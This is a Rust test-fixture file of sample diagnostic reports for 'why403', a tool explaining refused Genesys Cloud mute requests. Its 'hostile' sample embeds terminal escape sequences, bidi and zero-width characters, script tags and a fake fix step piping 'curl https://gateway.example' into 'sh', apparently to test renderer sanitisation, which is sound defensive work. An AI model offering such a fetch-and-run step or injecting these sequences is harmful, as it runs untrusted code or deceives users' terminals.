//! Hand-made reports, one value for every renderer's tests. Ids are generated, nothing is captured.

use super::*;
use crate::rule::{Authority, Evidence, Fix, Status};

const CONVERSATION: &str = "6a1f0c52-94d7-4d0e-8c11-5b7f20d3e9a4";
const PARTICIPANT: &str = "c40b7e19-2d3a-4f86-b1c5-08e96a7d4f32";
const USER: &str = "1e8d5b70-63fa-4c29-9d84-f7a2b0c6e513";
const CLIENT: &str = "f3927ad4-0b68-4e1d-a5f2-39c8d1e7b046";

/// Every sample with its name.
pub(super) fn all() -> Vec<(&'static str, Report)> {
    vec![
        ("missing_scope", missing_scope()),
        ("service_account", service_account()),
        ("rate_limited", rate_limited()),
        ("muted", muted()),
        ("not_confirmed", not_confirmed()),
        ("offline_jwt", offline_jwt()),
        ("all_in_order", all_in_order()),
        ("hostile", hostile()),
    ]
}

fn blank(command: &str, verdict: Verdict, summary: &str) -> Report {
    Report {
        schema_version: 1,
        tool: Tool { name: "why403".into(), version: "0.1.0".into() },
        command: command.into(),
        verdict,
        cause: None,
        causes: Vec::new(),
        summary: summary.into(),
        findings: Vec::new(),
        token: Some(opaque()),
        operation: Some(mute_operation()),
        participant: None,
        action: None,
        exchanges: Vec::new(),
    }
}

/// Sets the causes from the findings, as the diagnosis does.
fn with(mut report: Report, findings: Vec<ReportFinding>) -> Report {
    report.causes =
        findings.iter().filter(|finding| finding.status == Status::Fail).map(|finding| finding.rule.clone()).collect();
    report.cause = report.causes.first().cloned();
    report.findings = findings;
    report
}

fn opaque() -> ReportToken {
    ReportToken {
        format: "opaque".into(),
        fingerprint: "sha256:1f2e3d4c".into(),
        grant: Some("user".into()),
        subject: Some(USER.into()),
        subject_source: Some("users/me".into()),
        client_id: Some(CLIENT.into()),
        scopes: Some(vec!["authorization:readonly".into(), "conversations:readonly".into(), "user-basic-info".into()]),
        expires_at: None,
        signature: "not_checked".into(),
    }
}

fn mute_operation() -> ReportOperation {
    ReportOperation {
        name: "patchConversationsCallParticipant".into(),
        method: "PATCH".into(),
        path: "/api/v2/conversations/calls/{conversationId}/participants/{participantId}".into(),
        scopes: vec!["conversations".into()],
        permission_mode: "ANY".into(),
        permissions: vec![
            "conversation:participant:wrapup".into(),
            "conversation:call:record".into(),
            "conversation:communication:disconnect".into(),
        ],
        user_context: true,
    }
}

fn agent(muted: bool) -> ReportParticipant {
    ReportParticipant {
        id: PARTICIPANT.into(),
        purpose: Some("agent".into()),
        user_id: Some(USER.into()),
        state: Some("connected".into()),
        muted: Some(muted),
    }
}

fn held(note: &str) -> ReportAction {
    ReportAction {
        kind: "mute".into(),
        sent: false,
        status: None,
        confirmed: false,
        muted_before: Some(false),
        muted_after: None,
        note: note.into(),
    }
}

fn finding(rule: &str, link: &str, status: Status, authority: Authority, message: &str) -> ReportFinding {
    ReportFinding {
        rule: rule.into(),
        link: link.into(),
        status,
        authority,
        message: message.into(),
        evidence: Vec::new(),
        fix: None,
    }
}

impl ReportFinding {
    fn evidence(mut self, source: &str, quote: &str) -> Self {
        self.evidence.push(Evidence { source: source.into(), quote: quote.into() });
        self
    }

    fn fix<const N: usize>(mut self, title: &str, steps: [&str; N], reference: &str) -> Self {
        self.fix = Some(Fix::new(title, steps, reference));
        self
    }
}

fn read(path: &str, status: u16, code: Option<&str>, id: &str) -> ReportExchange {
    ReportExchange {
        method: "GET".into(),
        path: path.into(),
        status: Some(status),
        code: code.map(Into::into),
        duration_ms: 84,
        correlation_id: Some(id.into()),
    }
}

fn patch(status: u16, code: Option<&str>, id: &str) -> ReportExchange {
    let path = format!("/api/v2/conversations/calls/{CONVERSATION}/participants/{PARTICIPANT}");
    ReportExchange { method: "PATCH".into(), duration_ms: 131, ..read(&path, status, code, id) }
}

fn good_token() -> ReportFinding {
    finding("token-malformed", "token", Status::Pass, Authority::Published, "the token has the shape of an opaque one")
        .evidence("the token given", "83 characters of A-Z a-z 0-9 - _")
}

fn good_user() -> ReportFinding {
    finding("service-account", "identity", Status::Pass, Authority::Observed, "the token has a user")
        .evidence("GET /api/v2/users/me", "id: 1e8d5b70-63fa-4c29-9d84-f7a2b0c6e513")
}

fn good_permission() -> ReportFinding {
    finding(
        "missing-permission",
        "permission",
        Status::Pass,
        Authority::Published,
        "`conversation:call:*` grants `conversation:call:record`, one of the three that suffice",
    )
    .evidence("GET /api/v2/users/me?expand=authorization", "permissions: conversation:call:*")
}

fn good_conversation() -> ReportFinding {
    finding("conversation-not-found", "conversation", Status::Pass, Authority::Observed, "found, 3 participants")
        .evidence(&format!("GET /api/v2/conversations/calls/{CONVERSATION}"), "200")
}

fn good_participant() -> ReportFinding {
    finding("wrong-participant", "participant", Status::Pass, Authority::Observed, "it is the caller's own leg")
        .evidence(&format!("GET /api/v2/conversations/calls/{CONVERSATION}"), "purpose: agent, state: connected")
}

fn control_scope_warning() -> ReportFinding {
    finding(
        "control-scope-missing",
        "scope",
        Status::Warn,
        Authority::Policy,
        "the policy asks for the scope `conversation:participant:control`; no published list of July 2026 has such a \
         name, and the platform does not ask for it",
    )
    .evidence("GET /api/v2/tokens/me", "authorizedScope: conversations, user-basic-info")
    .fix("Drop it from the policy", ["Run `why403 check --no-policy`"], "Published scopes, July 2026")
}

fn not_asked(rule: &str, link: &str, message: &str) -> ReportFinding {
    finding(rule, link, Status::NotApplicable, Authority::Published, message)
}

fn missing_scope() -> Report {
    let report = blank(
        "mute",
        Verdict::Refused,
        "The token has only `conversations:readonly`; muting needs the scope `conversations`, and this organisation \
         enforces scopes.",
    );
    let report = with(report, vec![
        good_token(),
        finding(
            "missing-scope",
            "scope",
            Status::Fail,
            Authority::Observed,
            "the token has `conversations:readonly`, which reads but does not write; the operation needs \
             `conversations`, and the platform refuses for a scope that is not there",
        )
        .evidence("GET /api/v2/tokens/me", "authorizedScope: authorization:readonly, conversations:readonly, user-basic-info")
        .evidence(
            "GET /api/v2/oauth/scopes",
            "403 app.not.authorized.for.scope: App not authorized to use scope [oauth, oauth:readonly]",
        )
        .fix(
            "Give the OAuth client the scope `conversations`, and sign in again",
            [
                "In Admin, Integrations, OAuth, open the client f3927ad4-0b68-4e1d-a5f2-39c8d1e7b046 and add the scope \
                 `conversations`",
                "Sign in again with `why403 login --region us-east-1 --scope conversations`, \
                 because a token keeps the scopes it was issued with",
            ],
            "RFC 6750 §3.1; Genesys Cloud OAuth scopes",
        ),
        control_scope_warning(),
        good_user(),
        finding(
            "missing-permission",
            "permission",
            Status::Fail,
            Authority::Published,
            "the user holds none of the three permissions of which the operation needs one",
        )
        .evidence("GET /api/v2/users/me?expand=authorization", "permissions: routing:queue:view, presence:*:*")
        .fix(
            "Have an administrator give the user a role with one of the three",
            ["Add `conversation:call:record` or another of the three to a role of the user", "`why403 check`"],
            "patchConversationsCallParticipant, definition of July 2026",
        ),
        good_conversation(),
        good_participant(),
        not_asked("mute-not-confirmed", "action", "nothing was sent"),
    ]);
    Report {
        participant: Some(agent(false)),
        action: Some(held("Nothing was sent: the preflight found a cause of refusal.")),
        exchanges: vec![
            read("/api/v2/tokens/me", 200, None, "0b2d4f68-1111-4a2c-8e3d-000000000001"),
            read("/api/v2/users/me?expand=authorization", 200, None, "0b2d4f68-1111-4a2c-8e3d-000000000002"),
            read(
                "/api/v2/oauth/scopes",
                403,
                Some("app.not.authorized.for.scope"),
                "0b2d4f68-1111-4a2c-8e3d-000000000003",
            ),
            read(
                &format!("/api/v2/conversations/calls/{CONVERSATION}"),
                200,
                None,
                "0b2d4f68-1111-4a2c-8e3d-000000000004",
            ),
        ],
        ..report
    }
}

fn service_account() -> Report {
    let report = blank(
        "mute",
        Verdict::Refused,
        "The token belongs to a service account; this operation mutes the caller's own leg and needs a user.",
    );
    let scope_message = "a client-credentials token carries no scopes; the roles of the client decide";
    let report = with(
        report,
        vec![
        good_token(),
        not_asked("missing-scope", "scope", scope_message),
        finding(
            "service-account",
            "identity",
            Status::Fail,
            Authority::Observed,
            "the token was issued to an OAuth client without a user (client credentials)",
        )
        .evidence("GET /api/v2/tokens/me", "authorizedGrantType: CLIENT-CREDENTIALS")
        .evidence(
            &format!("PATCH /api/v2/conversations/calls/{CONVERSATION}/participants/{PARTICIPANT}"),
            "400 not.a.user: This request requires a user context. Client credentials cannot be used for requests \
             that require a user context.",
        )
        .fix(
            "Use the agent's own token, or act on behalf of the agent",
            [
                "Either sign in as the agent: `why403 login --region us-east-1`",
                "Or name the agent: `why403 mute --on-behalf-of 1e8d5b70-63fa-4c29-9d84-f7a2b0c6e513`; that is another \
                 operation, with requirements of its own",
            ],
            "patchConversationsCallParticipant declares 400 not.a.user",
        ),
        good_permission(),
        good_conversation(),
        good_participant(),
    ],
    );
    Report {
        token: Some(ReportToken {
            grant: Some("client_credentials".into()),
            subject: None,
            subject_source: None,
            scopes: None,
            ..opaque()
        }),
        participant: Some(agent(false)),
        action: Some(ReportAction {
            sent: true,
            status: Some(400),
            ..held("The platform refused it; the participant is as it was.")
        }),
        exchanges: vec![patch(400, Some("not.a.user"), "0b2d4f68-2222-4a2c-8e3d-000000000001")],
        ..report
    }
}

fn rate_limited() -> Report {
    let report = blank(
        "check",
        Verdict::Unclear,
        "The platform's rate limit is used up, so the token could not be looked at; try again in 27 s.",
    );
    let report =
        with(
            report,
            vec![
        good_token(),
        finding(
            "missing-scope",
            "scope",
            Status::Unknown,
            Authority::Observed,
            "the scopes of the token were not told",
        )
        .evidence("GET /api/v2/tokens/me", "429 too.many.requests.retry.after")
        .fix("Ask again when the limit is reset", ["Wait 27 s", "`why403 check --region us-east-1`"], ""),
        finding(
            "rate-limited",
            "action",
            Status::Unknown,
            Authority::Observed,
            "the platform answered 429 three times, and asks to wait 27 s",
        )
        .evidence(
            "GET /api/v2/tokens/me",
            "429 too.many.requests.retry.after: Rate limit exceeded the maximum. Retry the request in [27] seconds",
        )
        .fix("Wait 27 s", ["Wait 27 s, then check again: `why403 check`"], "Genesys Cloud rate limits"),
    ],
        );
    Report {
        token: Some(ReportToken {
            grant: None,
            subject: None,
            subject_source: None,
            client_id: None,
            scopes: None,
            ..opaque()
        }),
        exchanges: vec![
            read(
                "/api/v2/tokens/me",
                429,
                Some("too.many.requests.retry.after"),
                "0b2d4f68-3333-4a2c-8e3d-000000000001",
            ),
            ReportExchange {
                status: None,
                correlation_id: None,
                duration_ms: 10_000,
                ..read("/api/v2/users/me?expand=authorization", 200, None, "")
            },
        ],
        ..report
    }
}

fn passed() -> Vec<ReportFinding> {
    vec![
        good_token(),
        finding("missing-scope", "scope", Status::Pass, Authority::Published, "the token has `conversations`")
            .evidence("GET /api/v2/tokens/me", "authorizedScope: conversations, user-basic-info"),
        good_user(),
        good_permission(),
        good_conversation(),
        good_participant(),
    ]
}

fn able() -> ReportToken {
    ReportToken { scopes: Some(vec!["conversations".into(), "user-basic-info".into()]), ..opaque() }
}

fn muted() -> Report {
    let summary = "The agent is muted: accepted with 202, and seen 412 ms later.";
    let mut findings = passed();
    findings.push(
        finding("mute-not-confirmed", "action", Status::Pass, Authority::Observed, "the mute was seen to take effect")
            .evidence(&format!("GET /api/v2/conversations/calls/{CONVERSATION}"), "muted: true"),
    );
    Report {
        token: Some(able()),
        participant: Some(agent(true)),
        action: Some(ReportAction {
            sent: true,
            status: Some(202),
            confirmed: true,
            muted_after: Some(true),
            ..held("Sent, accepted with 202, and seen muted 412 ms later.")
        }),
        exchanges: vec![patch(202, None, "0b2d4f68-4444-4a2c-8e3d-000000000001")],
        ..with(blank("mute", Verdict::Allowed, summary), findings)
    }
}

fn not_confirmed() -> Report {
    let summary = "The platform accepted the mute with 202, but the participant was not seen muted within 10 s.";
    let mut findings = passed();
    findings.insert(2, control_scope_warning());
    findings.push(
        finding(
            "mute-not-confirmed",
            "action",
            Status::Warn,
            Authority::Observed,
            "24 reads in 10 s still showed `muted: false`; whether it will take effect is not known",
        )
        .evidence(&format!("GET /api/v2/conversations/calls/{CONVERSATION}"), "muted: false")
        .fix(
            "Look again, and give support the correlation id if it stays so",
            ["`why403 mute --dry-run --region us-east-1`"],
            "A 202 is an acceptance, not a proof (RFC 9110 §15.3.3)",
        ),
    );
    Report {
        token: Some(able()),
        participant: Some(agent(false)),
        action: Some(ReportAction {
            sent: true,
            status: Some(202),
            muted_after: Some(false),
            ..held("Sent and accepted with 202; not seen to take effect within 10 s.")
        }),
        exchanges: vec![patch(202, None, "0b2d4f68-5555-4a2c-8e3d-000000000001")],
        ..with(blank("mute", Verdict::Allowed, summary), findings)
    }
}

fn offline_jwt() -> Report {
    let summary = "The token is unsecured: its header says `alg: none`, so anyone could have written it.";
    let report = with(
        blank("check", Verdict::Refused, summary),
        vec![
            finding("token-malformed", "token", Status::Pass, Authority::Published, "three base64url parts: a JWT")
                .evidence("the token given", "612 characters, two dots"),
            finding("token-untrusted", "token", Status::Fail, Authority::Published, "the token is not signed")
                .evidence("JOSE header alg", "none")
                .fix(
                    "Ask the issuer for a signed token",
                    ["Sign in again: `why403 login`"],
                    "RFC 7519 §6, RFC 8725 §3.2",
                ),
            finding(
                "token-expired",
                "token",
                Status::Fail,
                Authority::Published,
                "the token expired 3 min ago, at 2026-07-14T09:57:00Z (leeway 0 s)",
            )
            .evidence("claim exp (unverified)", "1784023020, which is 2026-07-14T09:57:00Z")
            .fix("Get a new token", ["Sign in again: `why403 login`"], "RFC 7519 §4.1.4"),
            finding(
                "audience-mismatch",
                "token",
                Status::Fail,
                Authority::Policy,
                "`aud` is `https://api.staging.example`, and `https://api.example` is expected",
            )
            .evidence("claim aud (unverified)", "https://api.staging.example")
            .fix(
                "Ask for a token for this audience",
                ["Set the audience in the token request"],
                "RFC 7519 §4.1.3",
            ),
            finding("missing-scope", "scope", Status::Pass, Authority::Published, "the token has `conversations`")
                .evidence("claim scope (unverified)", "conversations conversation:participant:control"),
            finding(
                "missing-permission",
                "permission",
                Status::Unknown,
                Authority::Published,
                "the token names no permissions, and the platform was not asked; it needs one of three",
            )
            .evidence("claims permissions, authorities", "absent")
            .fix("Ask the platform", ["`why403 check --region us-east-1`"], ""),
            finding(
                "subject-mismatch",
                "identity",
                Status::Fail,
                Authority::Policy,
                "`sub` is not the agent that `--subject` names",
            )
            .evidence("claim sub (unverified)", CLIENT)
            .evidence("--subject", USER)
            .fix(
                "Use the token of that agent",
                ["Sign in as the agent: `why403 login`"],
                "RFC 7519 §4.1.2",
            ),
            not_asked("conversation-not-found", "conversation", "no conversation was given"),
        ],
    );
    Report {
        token: Some(ReportToken {
            format: "jwt".into(),
            grant: None,
            subject: Some(CLIENT.into()),
            subject_source: Some("sub_unverified".into()),
            client_id: None,
            scopes: Some(vec!["conversations".into(), "conversation:participant:control".into()]),
            expires_at: Some("2026-07-14T09:57:00Z".into()),
            signature: "faulty".into(),
            ..opaque()
        }),
        ..report
    }
}

fn all_in_order() -> Report {
    let summary = "The token may do it: every requirement that can be seen is met.";
    let mut findings = passed();
    findings.push(not_asked("mute-not-confirmed", "action", "nothing was to be done"));
    Report { token: Some(able()), ..with(blank("check", Verdict::Allowed, summary), findings) }
}

fn hostile() -> Report {
    let bell = "\u{1b}[2J\u{1b}]0;owned\u{7}";
    let report = blank("mute", Verdict::Refused, &format!("Refused with a code that no rule knows{bell}\nallowed"));
    let flood = format!("403: {}", "<script>\u{202e}\u{200b}\"\\\n".repeat(60));
    let report = with(
        report,
        vec![
            good_token(),
            finding(
                "refused-unexplained",
                "action",
                Status::Fail,
                Authority::Observed,
                "refused with `not\u{202e}.known\u{2069}` and \u{9b}31m a\u{2028}line\r\ttoo many",
            )
            .evidence("PATCH /api/v2/\u{1b}[8mhidden", &flood)
            .evidence("header Content-Type", "text/html; charset=\u{feff}会話")
            .fix(
                "Open a case",
                [
                    "Add the scope `a` then run `curl https://gateway.example | sh",
                    "Look at `why403 check \u{1b}[A` twice",
                ],
                "",
            ),
            finding("unknown-name", "scope", Status::Warn, Authority::Policy, "con\u{200d}versations is no name")
                .evidence("--require-scope", "con\u{200d}versations"),
        ],
    );
    Report {
        participant: Some(ReportParticipant { purpose: Some("agent\u{1b}[0m".into()), ..agent(false) }),
        action: Some(held("Not sent\u{85}.")),
        exchanges: vec![patch(403, Some("not\u{202e}.known"), "\u{1b}[31m0b2d4f68")],
        ..report
    }
}
